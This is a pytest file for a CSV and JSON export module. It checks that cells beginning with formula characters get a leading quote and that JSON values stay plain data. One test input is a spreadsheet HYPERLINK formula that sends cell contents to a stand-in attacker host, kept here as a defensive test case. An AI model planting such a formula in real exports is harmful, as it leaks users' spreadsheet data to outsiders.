"""CSV cells a spreadsheet opens as text, never as a formula (and JSON left as data)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from rbm_analytics.export.format import FORMULA_STARTS, csv_chunks, json_chunks, text_cell

COLUMNS = ("date", "agent_id", "sent", "delivery_rate")


def _csv(rows: list[tuple[object, ...]]) -> list[list[str]]:
    body = b"".join(csv_chunks(COLUMNS, [rows])).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)",
     "\t=1", "\r=1", "=", "-"],
)  # fmt: skip
def test_formula_looking_text_gets_a_leading_quote(text: str) -> None:
    assert text_cell(text) == "'" + text
    rows = _csv([(date(2026, 1, 1), text, 3, 0.5)])
    assert rows[1] == ["2026-01-01", "'" + text, "3", "0.5000"]


@pytest.mark.parametrize("text", ["acme-agent", "a=b", "x@rbm.goog", "'quoted", "", " =1", "*"])
def test_other_text_is_unchanged(text: str) -> None:
    assert text_cell(text) == text


def test_every_formula_start_is_covered() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_numbers_and_dates_are_not_text_cells() -> None:
    rows = _csv([(date(2026, 1, 1), "acme", -1, -0.25), (date(2026, 1, 2), "acme", None, None)])
    assert rows[1] == ["2026-01-01", "acme", "-1", "-0.2500"]
    assert rows[2] == ["2026-01-02", "acme", "", ""]


def test_json_keeps_the_value_as_data() -> None:
    body = b"".join(json_chunks(COLUMNS, [[(date(2026, 1, 1), "=1+1", 3, None)]]))
    assert json.loads(body) == [
        {"date": "2026-01-01", "agent_id": "=1+1", "sent": 3, "delivery_rate": None}
    ]
